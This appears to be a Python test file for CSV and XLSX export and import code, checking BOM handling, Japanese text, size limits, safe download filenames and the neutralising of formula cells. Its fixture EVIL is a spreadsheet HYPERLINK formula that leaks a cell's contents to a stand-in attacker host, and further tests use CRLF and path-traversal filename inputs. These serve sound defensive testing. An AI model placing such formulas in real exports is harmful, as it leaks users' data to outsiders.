"""CSV and XLSX writers and readers: byte-order mark, formula cells neutralised, Japanese, limits."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest

from app.platform import tabular
from app.platform.tabular import TabularError, neutralise

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "\u3000=1", "＝1+1", "＋1", "－1", "＠x",
    EVIL,
])
def test_formula_cells_get_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Alice", "山田太郎", "a=b", "1-2", "user@example.com", "'quoted", ""])
def test_other_text_is_unchanged(value):
    assert neutralise(value) == value


def test_numbers_and_dates_are_kept_and_none_is_empty():
    moment = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)
    assert neutralise(-5) == -5 and neutralise(3.5) == 3.5 and neutralise(moment) is moment
    assert neutralise(None) == ""


def test_csv_has_a_bom_crlf_and_neutralised_cells():
    data = tabular.csv_bytes([[EVIL, "山田太郎", 3, None], ["-1+1", "Smith, Jane", -2, "line\nbreak"]],
                             headers=["名前", "Name", "N", "Note"])
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["名前", "Name", "N", "Note"]
    assert rows[1] == ["'" + EVIL, "山田太郎", "3", ""]
    assert rows[2] == ["'-1+1", "Smith, Jane", "-2", "line\nbreak"]
    # Only real numbers (written from int values) may start with a minus.
    assert not any(cell.startswith(tabular.FORMULA_STARTS) and not cell.lstrip("-").isdigit()
                   for row in rows for cell in row)


def test_csv_reads_back_what_it_wrote():
    written = tabular.csv_bytes([[EVIL, "山田太郎", "", ""], ["x"]], headers=["a", "b"])
    assert tabular.read_csv(io.BytesIO(written)) == [["a", "b"], [EVIL, "山田太郎"], ["x"]]
    assert tabular.read_csv(written, restore=False)[1][0] == "'" + EVIL


def test_csv_reader_takes_shift_jis_and_semicolons():
    assert tabular.read_csv("氏名,メール\r\n山田,a@example.com\r\n".encode("cp932")) == [
        ["氏名", "メール"], ["山田", "a@example.com"]]
    assert tabular.read_csv(b"name;city\nAnna;Berlin\n\n") == [["name", "city"], ["Anna", "Berlin"]]


def test_csv_reader_refuses_what_it_cannot_read():
    with pytest.raises(TabularError):
        tabular.read_csv(b"PK\x03\x04\x00\x00binary")
    with pytest.raises(TabularError):
        tabular.read_csv(b"\xff\xfe\xfa\x80\x81" * 10)
    with pytest.raises(TabularError):
        tabular.read_csv(b"a\n" * 11, max_rows=10)
    with pytest.raises(TabularError):
        tabular.read_csv(io.BytesIO(b"a" * 101), max_bytes=100)


def test_xlsx_holds_japanese_and_never_a_formula():
    moment = datetime(2026, 11, 25, 9, 30)
    data = tabular.xlsx_bytes([[EVIL, "山田太郎", 7, moment, None, "bell\x07"]], headers=["名前", "Name"],
                              sheet_title="名簿: 2026/11")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.title == "名簿  2026 11"
    assert sheet["A1"].value == "名前" and sheet["A1"].font.b
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["B2"].value == "山田太郎" and sheet["C2"].value == 7 and sheet["D2"].value == moment
    assert sheet["F2"].value == "bell"
    assert tabular.read_xlsx(io.BytesIO(data)) == [["名前", "Name"], [EVIL, "山田太郎", 7, moment, None, "bell"]]


def test_xlsx_reader_refuses_what_it_cannot_read():
    with pytest.raises(TabularError):
        tabular.read_xlsx(b"name,city\n")
    with pytest.raises(TabularError):
        tabular.read_xlsx(b"PK\x03\x04" + b"\x00" * 100)
    with pytest.raises(TabularError):
        tabular.read_xlsx(tabular.xlsx_bytes([["x"]] * 11), max_rows=10)
    with pytest.raises(TabularError):
        tabular.read_xlsx(tabular.xlsx_bytes([["x"]]), sheet="missing")


def test_file_names_are_safe_and_keep_japanese():
    header = tabular.content_disposition('電池 "リサイクル"\r\n/../講座-2026-11-25.csv')
    assert header.startswith('attachment; filename="')
    assert "\r" not in header and "\n" not in header and "/" not in header.split("filename*=")[1]
    assert "filename*=UTF-8''" in header and "%E9%9B%BB%E6%B1%A0" in header  # 電池
    ascii_part = header.split('filename="')[1].split('"')[0]
    assert ascii_part.isascii() and ascii_part.endswith(".csv")
    assert tabular.safe_filename("") == "export"


def test_responses_are_attachments_never_cached(app):
    with app.test_request_context():
        for response in (tabular.csv_response([["a"]], ["h"], "x.csv"),
                         tabular.xlsx_response([["a"]], ["h"], "x.xlsx")):
            assert response.headers["Cache-Control"] == "no-store"
            assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.mimetype == tabular.XLSX_MIMETYPE


def test_csv_reader_picks_the_heading_lines_separator():
    assert tabular.read_csv(b"name,note\nAnna,\"a; b; c\"\n") == [["name", "note"], ["Anna", "a; b; c"]]
    assert tabular.read_csv(b"name\tcity\nAnna\tBerlin\n") == [["name", "city"], ["Anna", "Berlin"]]
    assert tabular.read_csv(b"") == [] and tabular.read_csv(b"single\nvalue\n") == [["single"], ["value"]]


def test_csv_download_names_its_charset_once(app):
    from app.platform.tabular import csv_response

    with app.test_request_context("/"):
        response = csv_response([["a"]], ["h"], "x.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
